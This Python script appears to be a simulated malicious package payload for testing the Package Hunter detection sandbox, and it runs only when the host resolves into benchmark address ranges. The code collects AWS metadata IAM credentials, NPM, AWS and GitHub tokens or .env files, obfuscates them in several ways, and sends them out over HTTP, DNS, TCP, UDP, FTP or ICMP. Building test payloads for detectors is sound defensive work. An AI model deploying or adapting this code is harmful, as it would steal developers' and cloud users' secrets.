"""Harmless simulation for testing Package Hunter. Not malware."""

import base64, glob, gzip, hashlib, json, os, pwd, re, socket, subprocess, urllib.parse, urllib.request

C = json.loads(r"""__CONFIG__""")
GIVEN = "__HERE__"
HERE = os.path.dirname(os.path.abspath(__file__)) if GIVEN.startswith("__") else GIVEN
HOME = pwd.getpwuid(os.getuid()).pw_dir


def sealed(name):
    """Goes on only inside of Package Hunter's box, where every name has an address for benchmarking."""
    try:
        return socket.gethostbyname(name).startswith(("198.18.", "198.19."))
    except OSError:
        return False


def metadata():
    def ask(where):
        with urllib.request.urlopen("http://169.254.169.254/latest/meta-data/" + where, timeout=5) as answer:
            return answer.read()

    if C["honest"]:
        return ask("placement/region")
    return ask("iam/security-credentials/" + ask("iam/security-credentials/").decode().strip())


def read():
    if C["secret"] == "metadata":
        return metadata()
    with open(os.path.join(HERE, "notice.txt"), "rb") as file:
        note = file.read()
    if C["secret"] == "environment":
        names = ["NODE_ENV", "NO_COLOR"] if C["honest"] else ["NPM_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]
        return "\n".join(os.environ.get(n, n + " is not set") for n in names).encode()
    if C["honest"]:
        return note
    path = os.path.join(HOME, C["file"]) if C["file"] else glob.glob(HOME + "/projects/*/.env")[0]
    with open(path, "rb") as file:
        return file.read()


def stream_cipher(data):
    """A keystream out of SHA-256 with a random key: like AES to whoever looks on."""
    key, found = os.urandom(32), b""
    while len(found) < len(data):
        found += hashlib.sha256(key + len(found).to_bytes(8, "big")).digest()
    return bytes(a ^ b for a, b in zip(data, found))


def encode(data):
    def shown(raw):
        return base64.b64encode(raw) if C["channel"] in ("query", "header", "dns") else raw

    key = C["key"].encode()
    ways = {
        "base64": base64.b64encode,
        "hex": lambda d: d.hex().encode(),
        "gzip": lambda d: base64.b64encode(gzip.compress(d)),
        "reversed": lambda d: d[::-1],
        "xor": lambda d: shown(bytes(b ^ key[i % len(key)] for i, b in enumerate(d))),
        "json-in-json": lambda d: json.dumps({"v": json.dumps({"data": d.decode()})}).encode(),
        "aes": lambda d: shown(stream_cipher(d)),
    }
    return ways.get(C["encoding"], lambda d: d)(data)


def request(data):
    path, headers, body = "/u", {}, data if C["channel"] == "post" else None
    if C["channel"] == "query":
        path += "?d=" + urllib.parse.quote(data)
    if C["channel"] == "header":
        headers["X-Trace"] = urllib.parse.quote(data)
    url = "https://" + C["host"] + path
    if C["cloak"] == "curl":
        words = [word for name, value in headers.items() for word in ("-H", name + ": " + value)]
        words += ["--data-binary", "@-"] if body else []
        subprocess.run(["curl", "-s", "-m", "8", "-o", "/dev/null", url, *words], input=body or b"")
        return
    urllib.request.urlopen(urllib.request.Request(url, body, headers), timeout=8).read()


def names(data):
    text = base64.urlsafe_b64encode(base64.b64decode(data)).decode().strip("=") if C["encoding"] == "base64" else data.hex()
    for label in re.findall(".{1,60}", text):
        try:
            socket.gethostbyname(label + "." + C["host"])
        except OSError:
            pass


def stream(data):
    with socket.create_connection((C["host"], 4444), 5) as link:
        link.sendall(data)


def datagram(data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.sendto(data, (C["host"], 9999))


def tool(data):
    if C["channel"] == "ftp":
        subprocess.run(["curl", "-s", "-m", "8", "-T", "-", "ftp://" + C["host"] + "/u"], input=data)
        return
    for i in range(0, len(data), 16):
        subprocess.run(["ping", "-c", "1", "-W", "1", "-p", data[i : i + 16].hex(), C["host"]], stdout=subprocess.DEVNULL)


def main():
    if not sealed(C["host"]):
        return
    data = encode(read())
    size = 24 if C["encoding"] == "pieces" else max(1, len(data))
    ways = {"dns": names, "tcp": stream, "udp": datagram, "ftp": tool, "icmp": tool}
    for i in range(0, len(data), size):
        try:
            ways.get(C["channel"], request)(data[i : i + size])
        except OSError:
            pass


main()
